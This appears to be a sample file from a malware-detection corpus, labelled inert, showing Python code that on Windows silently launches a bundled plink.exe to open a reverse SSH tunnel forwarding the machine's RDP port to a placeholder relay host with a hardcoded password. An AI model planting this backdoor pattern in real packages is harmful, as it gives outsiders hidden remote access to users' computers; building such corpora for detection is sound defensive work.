# pkgguard corpus 744 (remote-shell), modelled on [taxonomy]; inert, never run.
import os
import subprocess
import sys

if sys.platform == "win32":
    here = os.path.dirname(os.path.abspath(__file__))
    subprocess.Popen(
        [
            os.path.join(here, "bin", "plink.exe"),
            "-batch", "-N", "-hostkey", "SHA256:7yZgk1nq2rK0mQ3aZ1d2b3c4d5e6f7g8h9i0j1k2l3m",
            "-R", "0.0.0.0:13389:127.0.0.1:3389",
            "-pw", "t7!Kq2x", "relay@rdp-relay.example",
        ],
        creationflags=0x08000000,
    )
